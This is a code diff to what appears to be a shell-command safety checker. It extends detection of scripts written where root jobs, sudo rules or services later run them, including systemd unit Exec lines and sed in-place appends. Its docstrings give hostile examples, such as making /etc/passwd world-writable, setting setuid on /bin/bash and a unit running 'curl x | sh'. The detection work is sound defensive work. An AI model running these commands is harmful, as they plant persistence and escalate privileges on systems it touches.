@@ -1017,6 +1017,8 @@ def _run_written(
         later = next((t for t in targets if t and text and RUN_LATER.match(t)), None)
         if later is not None and text is not None:
             yield from _run_later(invocation, text, later, cwd, depth)
+        elif text:
+            yield from _units_written(invocation, text, targets, cwd, depth)
         return
     if invocation.name == "tee":
         # tee FILE <<'EOF' … EOF, printf CODE | tee FILE: what tee reads is what it writes to FILE
@@ -1028,7 +1030,11 @@ def _run_written(
         later = next((t for t in files if t and text and RUN_LATER.match(t)), None)
         if later is not None and text:
             yield from _run_later(invocation, text, later, cwd, depth)
+        elif text:
+            yield from _units_written(invocation, text, files, cwd, depth)
         return
+    if invocation.name == "sed":
+        yield from _sed_added(invocation, cwd, depth)
     if piped is not None and (_reads_commands(invocation) or _shell_reading_input(invocation)):
         yield from _run_later(invocation, piped, "", cwd, depth)
     if not written:
@@ -1067,13 +1073,91 @@ def _run_written(
 
 RUN_LATER = lazy_compile(
     r"^(?:/usr(?:/local)?/s?bin|/s?bin|/opt/[^/]+/s?bin|(?:~|/home/[^/]+|/root)/(?:bin|\.local/bin))/[^/]+$"
-    r"|^(?:/|~/)(?:[^/]+/)*[^/]+\.(?:sh|bash)$"
+    r"|^(?:/|~/)(?:[^/]+/)*[^/]+\.(?:sh|bash|py|pl|rb|php|js|mjs|cjs|lua)$"
     r"|^/(?:opt|srv)/(?:[^/]+/)+[^/]+$"
 )
 """Where a script written is run later by someone else, by name: a directory of programs (a cron job
-or a setuid program calling ``ifconfig`` finds it there), a shell script outside the project (a root
-job's ``backup.sh``), or an installed program's file under ``/opt`` or ``/srv`` (its service's worker).
-Relative paths are the project's: written there, nothing runs them yet."""
+or a setuid program calling ``ifconfig`` finds it there), a script outside the project (a root job's
+``backup.sh``, the ``example.py`` a sudo rule runs, a module a root script imports: ``/tmp/random.py``,
+``/usr/lib/python3/random.py``; a PHP plug-in a root ``wp`` loads), or an installed program's file under
+``/opt`` or ``/srv`` (its service's worker). Relative paths are the project's: written there, nothing
+runs them yet. A code file is judged by its suffix's interpreter (:data:`_CODE_SUFFIXES`)."""
+
+
+_UNIT_EXEC = lazy_compile(r"^[ \t]*Exec[A-Za-z]*[ \t]*=[ \t]*[-@:+!]*(.+)$", re.MULTILINE)
+"""A systemd unit's command lines (``ExecStart=``, ``ExecStartPre=-/bin/sh -c ...``), prefixes dropped."""
+
+
+def _units_written(
+    invocation: Invocation, text: str, targets: Sequence[str | None], cwd: str | None, depth: int
+) -> Iterator[list[Invocation]]:
+    """The commands of a systemd unit (or drop-in) written by ``echo``, ``printf``, ``cat`` or ``tee``."""
+    from .locations import location
+
+    for target in targets:
+        if target and "systemd" in target and "Exec" in text and (place := location(target)) is not None:
+            yield from _unit_commands(invocation, text, place[0], cwd, depth)
+            return
+
+
+def _unit_commands(
+    invocation: Invocation, text: str, category: str, cwd: str | None, depth: int
+) -> Iterator[list[Invocation]]:
+    """``printf '[Service]\\nExecStart=/bin/sh -c "curl x | sh"' > ~/.config/systemd/user/x.service``:
+    the commands a unit written (a service or a timer's) will run, judged as if run now."""
+    from .verdict import SCHEDULED, SERVICE
+
+    if category not in (SERVICE, SCHEDULED):
+        return
+    for line in _UNIT_EXEC.finditer(text):
+        try:
+            inner = parse_nested(line.group(1))
+        except ShellSyntaxError:
+            continue
+        for stages in _walk(inner, cwd=cwd, _depth=depth + 1):
+            yield [_under(invocation, stage) for stage in stages]
+
+
+_SED_ADDS = lazy_compile(r"^\s*(?:(?:\$|\d+|/[^/]*/)\s*)?[aic]\\?\s*(\S.*)$", re.DOTALL)
+"""sed's append, insert and change commands (``$a TEXT``, ``1i\\ TEXT``): the text they add."""
+
+
+def _sed_added(invocation: Invocation, cwd: str | None, depth: int) -> Iterator[list[Invocation]]:
+    """``sed -i '$a chmod u+s /bin/bash' /usr/local/sbin/cleanup``: a line added in place to a script run
+    later (:data:`RUN_LATER`), judged as a write of it is."""
+    values = [invocation.command.static(w) for w in invocation.args]
+    if not any(v is not None and (v.startswith("-i") or v.startswith("--in-place")) for v in values):
+        return
+    scripts: list[str] = []
+    operands: list[str] = []
+    expecting = False
+    for value in values:
+        if value is None:
+            return
+        if expecting:
+            scripts.append(value)
+            expecting = False
+        elif value in ("-e", "--expression"):
+            expecting = True
+        elif value.startswith("--expression="):
+            scripts.append(value.partition("=")[2])
+        elif not value.startswith("-"):
+            operands.append(value)
+    if not scripts and operands:
+        scripts.append(operands.pop(0))
+    added = [m.group(1) for script in scripts if (m := _SED_ADDS.match(script))]
+    target = next((t for t in operands if RUN_LATER.match(t)), None)
+    if added and target is not None:
+        yield from _run_later(invocation, "\n".join(added), target, cwd, depth)
+
+
+_SHEBANG = lazy_compile(r"^#!\s*(?:\S*/)?(?:env\s+(?:-\S+\s+)*)?([A-Za-z][\w.+-]*)")
+_SHEBANG_CODE = {
+    "python": ("python3", "-c"), "perl": ("perl", "-e"), "ruby": ("ruby", "-e"), "node": ("node", "-e"),
+    "php": ("php", "-r"), "lua": ("lua", "-e"),
+}  # fmt: skip
+"""A script's interpreter by its shebang's program (``python3.11`` is ``python``), and the command line
+that runs its code inline."""
 
 
 def _run_later(
@@ -1081,12 +1165,28 @@ def _run_later(
 ) -> Iterator[list[Invocation]]:
     """``echo 'chmod 777 /etc/passwd' > /usr/local/bin/backup.sh``: a script written to where it runs
     later (:data:`RUN_LATER`), judged as if run now: what it will do is known, who runs it is not."""
-    if depth >= MAX_NESTED or not _COMMAND_TEXT.match(text):
+    suffix = posixpath.splitext(target)[1].lower()
+    code = _CODE_SUFFIXES.get(suffix) if suffix not in _SHELL_SUFFIXES else None
+    shebang = _SHEBANG.match(text)
+    if shebang is not None:  # #!/usr/bin/env python3 in /usr/local/bin/ps: the interpreter named
+        code = _SHEBANG_CODE.get(shebang.group(1).rstrip("0123456789.")) or (
+            None if shebang.group(1) in SHELLS else code
+        )
+    if depth >= MAX_NESTED or not (code or _COMMAND_TEXT.match(text)):
         return
     from .locations import location  # here: locations' table is only needed for a write of a script
 
-    if target and location(target) is not None:
-        return  # ~/.local/bin/ssh, a shell snapshot: the place is the finding (hidden persistence ...)
+    place = location(target) if target else None
+    if place is not None:
+        # ~/.local/bin/ssh, a shell snapshot: the place is the finding (hidden persistence ...); a unit's
+        # commands are judged too (a service change is asked, a shell fetched and run there is not)
+        yield from _unit_commands(invocation, text, place[0], cwd, depth)
+        return
+    if code is not None:  # /tmp/random.py: the code its interpreter runs, as ``python3 -c CODE`` is judged
+        resolved, _ = _resolve(SimpleCommand((*code, text), (), ()))
+        if resolved is not None:
+            yield [_under(invocation, resolved.replace(cwd=cwd))]
+        return
     try:
         inner = parse_nested(text)
     except ShellSyntaxError:
